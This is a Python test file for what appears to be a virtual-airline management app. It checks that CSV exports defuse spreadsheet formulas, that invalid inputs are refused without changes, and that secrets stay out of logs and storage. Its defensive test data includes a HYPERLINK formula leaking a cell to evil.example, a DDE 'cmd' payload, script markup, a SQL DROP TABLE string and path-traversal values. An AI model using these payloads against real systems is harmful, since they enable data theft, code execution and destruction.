"""What somebody means badly, across all areas: refused with a sentence and nothing changed, or kept as plain text."""

from __future__ import annotations

import csv
import io
import logging
from datetime import timedelta
from typing import Any

import pytest

from tests.support.api import Api, open_route
from tests.support.running import PASSWORD, Running
from tests.support.small_airline import SmallAirline, small_airline
from vamgr.areas import load_areas
from vamgr.kernel.times import iso

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
MARKUP = "<script>alert(1)</script><img src=x onerror=alert(2)>"
QUERY = "'; DROP TABLE aircraft; --"
CALL = "@SUM(1+1)*cmd|' /C calc'!A0"
SEPARATORS = '-1+1,"two;three\nfour\t'
HOSTILE = (FORMULA, MARKUP, QUERY, CALL, SEPARATORS)


@pytest.fixture
async def airline(system: Running) -> SmallAirline:
    return await small_airline(system)


def head(airline: SmallAirline) -> int:
    system = airline.running.system
    return system.store.head(system.tenant).position


async def test_hostile_text_is_kept_as_it_is_and_exported_without_running(airline: SmallAirline) -> None:
    """Everything that takes free text is given some, then every list is read as a spreadsheet would."""
    await airline.owner.patch(f"/api/v1/airlines/{airline.airline_id}", json={"name": FORMULA})
    await airline.owner.patch(f"/api/v1/aircraft/{airline.aircraft_id}", json={"name": CALL[:40]})
    await airline.owner.patch("/api/v1/me", json={"display_name": MARKUP[:60]})
    for number, text in enumerate(HOSTILE):
        expense = {"name": text[:60].strip(), "kind": "daily", "amount_minor": 1, "airline_id": airline.airline_id}
        await airline.owner.post("/api/v1/expenses", json=expense)
        pirep_id = await airline.fly(
            "KBOS" if number % 2 == 0 else "KBED", "KBED" if number % 2 == 0 else "KBOS", remarks=text
        )
        await airline.post(f"/pireps/{pirep_id}/comments", {"text": text}, 201)
        assert (await airline.get(f"/pireps/{pirep_id}"))["remarks"] == text.strip()
    await airline.post(f"/aircraft/{airline.aircraft_id}/store", {"reason": FORMULA})

    seen = ""
    for area in load_areas():
        for endpoint in area.endpoints:
            if endpoint.csv and "{" not in endpoint.path and endpoint.of_platform == "no":
                seen += await _read_as_a_spreadsheet(airline, endpoint.path)
    assert "'=HYPERLINK" in seen
    assert "'@SUM" in seen


async def _read_as_a_spreadsheet(airline: SmallAirline, path: str) -> str:
    csv_asked = {"Accept": "text/csv"}
    # Some lists want to be told of which airline, or what to look for.
    for query in ({"status": "all"}, {}, {"airline": airline.airline_id}, {"q": "Boston"}):
        answer = await airline.owner.get(f"/api/v1{path}", params=query, headers=csv_asked)
        if answer.status_code == 200:
            break
    assert answer.status_code == 200, (path, answer.text)
    assert "attachment" in answer.headers["content-disposition"]
    head_row, *rows = csv.reader(io.StringIO(answer.text, newline=""))
    for row in rows:
        assert len(row) == len(head_row), (path, row)
        for cell in row:
            runs = cell.startswith(("=", "+", "-", "@", "\t", "\r"))
            assert not runs or _is_number(cell), (path, cell)
    return answer.text


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


async def test_what_cannot_be_is_refused_in_every_area_and_nothing_changes(airline: SmallAirline) -> None:
    route_id = await open_route(Api(airline.owner), airline.airline_id, "KBOS", "KJFK")
    now = airline.running.clock.now()
    off, on = iso(now - timedelta(hours=2)), iso(now - timedelta(hours=1))
    flight = {"aircraft_id": airline.aircraft_id, "departure": "KBOS", "planned_arrival": "KBED"}
    times = {"block_off_at": off, "block_on_at": on, "block_fuel_kg": 80, "fuel_used_kg": 20, "landing_rate_fpm": -150}
    report = {**flight, **times}
    route = {"airline_id": airline.airline_id, "flight_number": 5, "departure": "KBOS", "arrival": "KJFK"}
    aircraft = {"subfleet_id": airline.subfleet_id, "registration": "N9", "location": "KBOS"}
    pilot, fuel = f"/pilots/{airline.pilot_id}", {"kind": "jet_a", "price_minor_per_100kg": -1}
    free = {"kind": "free", "airline_id": airline.airline_id, "aircraft_id": airline.aircraft_id}
    ways: list[tuple[str, str, dict[str, Any], str]] = [
        ("POST", "/pireps", {**report, "landing_at": off, "takeoff_at": on}, "landing_at"),
        ("POST", "/pireps", {**report, "block_off_at": on, "block_on_at": off}, "block_on_at"),
        ("POST", "/pireps", {**report, "block_on_at": "9999-12-31T23:59:59Z"}, "block_on_at"),
        ("POST", "/pireps", {**report, "block_off_at": "0001-01-01T00:00:00Z"}, "block_on_at"),
        ("POST", "/pireps", {**report, "block_off_at": "0001-01-01T00:00:00+14:00"}, "block_off_at"),
        ("POST", "/pireps", {**report, "block_off_at": "2026-02-30T00:00:00Z"}, "block_off_at"),
        ("POST", "/pireps", {**report, "fuel_used_kg": -0.1}, "fuel_used_kg"),
        ("POST", "/pireps", {**report, "fuel_used_kg": 81}, "fuel_used_kg"),
        ("POST", "/pireps", {**report, "departure": "../../etc"}, "departure"),
        ("POST", "/pireps", {**report, "fares": [{"code": "Y", "count": 2**62}]}, "fares.0.count"),
        ("POST", "/bookings", {**free, "departure": "KBOS", "arrival": "ZZZZ"}, "arrival"),
        ("POST", "/bookings", {**free, "departure": "KBOS", "arrival": "KBED", "aircraft_id": "../x"}, "aircraft_id"),
        ("POST", "/routes", {**route, "arrival": "ZZZZ"}, "arrival"),
        ("POST", "/routes", {**route, "departure_time": "25:61"}, "departure_time"),
        ("POST", "/routes", {**route, "flight_number": 0}, "flight_number"),
        ("POST", "/routes", {**route, "valid_from": "2026-07-01", "valid_until": "2026-06-01"}, "valid_until"),
        ("PATCH", f"/routes/{route_id}", {"distance_nmi": -1}, "distance_nmi"),
        ("POST", "/aircraft", {**aircraft, "registration": "N172AB"}, "registration"),
        ("POST", "/aircraft", {**aircraft, "registration": FORMULA}, "registration"),
        ("POST", "/aircraft", {**aircraft, "location": "ZZZZ"}, "location"),
        ("POST", "/aircraft", {**aircraft, "price_minor": -1}, "price_minor"),
        ("POST", f"{pilot}/move", {"icao": "ZZZZ"}, "icao"),
        ("POST", f"{pilot}/transfer-hours", {"transfer_minutes": -1, "reason": "x"}, "transfer_minutes"),
        ("POST", "/users", {"email": "a@b", "display_name": "X Y", "password": PASSWORD, "role": "god"}, "role"),
        ("PATCH", "/settings", {"changes": {"no_such_setting": 1}}, "changes.no_such_setting"),
        ("PATCH", f"/airlines/{airline.airline_id}", {"country": "ZZ"}, "country"),
        ("PUT", "/airports/KBOS/override", {"currency": "USD", "fuel": [fuel]}, "fuel"),
    ]  # fmt: skip
    before = head(airline)
    for method, path, body, field in ways:
        answer = await airline.owner.request(method, f"/api/v1{path}", json=body)
        where = f"{method} {path} {body}: {answer.status_code} {answer.text}"
        assert answer.status_code in {409, 422}, where
        assert answer.headers["content-type"] == "application/problem+json", where
        problem = answer.json()
        assert any(error["field"].startswith(field) for error in problem["errors"]), where
        assert all(error["message"].rstrip("”)").endswith((".", "?", "}")) for error in problem["errors"]), where
    assert head(airline) == before
    assert (await airline.running.system.verify()).ok  # type: ignore[attr-defined]


async def test_nothing_secret_is_logged_or_kept_readable(
    airline: SmallAirline, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG)
    secrets = ["a secret of 4711 words", "tok-4712-secret"]
    user = {"email": "quiet@example.org", "display_name": "Quinn Quiet", "password": secrets[0], "role": "pilot"}
    await airline.post("/users", user, 201)
    await airline.running.client.post("/api/v1/session", json={"email": user["email"], "password": secrets[0] + "x"})
    await airline.running.client.post("/api/v1/session/launch", json={"token": secrets[1]})
    await airline.running.client.get("/api/v1/me", headers={"X-API-Key": secrets[1]})
    key = (await airline.post("/api-keys", {"name": "Key"}, 201))["key"]
    invitation = await airline.post("/invitations", {"role": "pilot"}, 201)
    tokens = [value for name, value in invitation.items() if name in {"url", "token"} and value]
    secrets += [key, *(token.rsplit("/", 1)[-1] for token in tokens), *airline.owner.cookies.values()]
    assert len(secrets) >= 5
    logged = "\n".join(
        record.getMessage() for record in caplog.records if not record.name.startswith(("httpx", "httpcore"))
    )
    folder = airline.running.system.settings.data_dir
    stored = b"".join(file.read_bytes() for file in folder.rglob("*.sqlite*"))
    for secret in secrets:
        assert secret not in logged
        assert secret.encode() not in stored, "kept readable on the disk"
    log_file = b"".join(file.read_bytes() for file in folder.glob("log.sqlite*"))
    assert b"Quinn Quiet" not in log_file, "a name stands unencrypted in the log"
    assert b"quiet@example.org" not in log_file
